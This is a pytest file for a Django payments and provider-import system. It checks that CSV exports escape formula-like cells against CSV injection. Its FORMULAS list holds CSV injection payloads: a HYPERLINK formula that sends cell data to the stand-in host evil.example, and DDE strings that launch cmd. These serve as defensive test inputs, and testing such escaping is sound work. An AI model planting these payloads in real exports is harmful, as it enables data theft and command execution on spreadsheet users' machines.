"""CSV imports keep cells that begin with `=`, `+`, `-` or `@` as the text they are, and every CSV
export writes such text cells with a leading `'` (OWASP, CSV injection) so a spreadsheet shows them
instead of running them; numbers, negative amounts included, stay numbers (docs/security.md,
"PDFs and imports")."""

# ruff: noqa: F811  (pytest fixtures imported, then requested by name)

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client

from accounts.csv_safe import csv_cell
from providers.models import Provider
from providers.regulator_import import import_cqc_directory
from tests.careplans.conftest import make_budget, make_provider, make_service  # noqa: F401
from tests.payments.payment_fixtures import pay_world  # noqa: F401
from tests.payments.test_transparency import URL, quarter_payments  # noqa: F401
from tests.providers.test_regulator_import import directory_text, location

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-73.50", "+5", "-0.01", "-.5", Decimal("-73.50"), -5, 12.5, "Brightside Care", "", "a=b", None]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_regulator_import_stores_formula_cells_as_their_text():
    names = {n: text for n, text in enumerate(FORMULAS[:4], start=1)}
    text = directory_text([location(n=n, Name=name) for n, name in names.items()])

    report = import_cqc_directory(text_or_path=text)

    assert report.created == 4
    for n, name in names.items():
        assert Provider.objects.get(regulator_id=f"1-{100 + n}").name == name


def test_the_transparency_csv_escapes_a_formula_name_and_keeps_amounts_numeric(quarter_payments, pay_world):
    Provider.objects.filter(pk=pay_world.brightside.pk).update(name=FORMULAS[0])

    response = Client().get(URL, {"quarter": "2026-Q2", "format": "csv"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    first = next(r for r in rows if r["transaction_number"] == str(quarter_payments["first"].pk))
    assert first["beneficiary"] == "'" + FORMULAS[0]
    assert first["amount"] == "612.50"
    assert all(not r["beneficiary"].startswith(("=", "+", "-", "@")) for r in rows)
    # JSON is data, not a spreadsheet: the name is given as it is.
    results = Client().get(URL, {"quarter": "2026-Q2"}).json()["results"]
    assert FORMULAS[0] in {r["beneficiary"] for r in results}
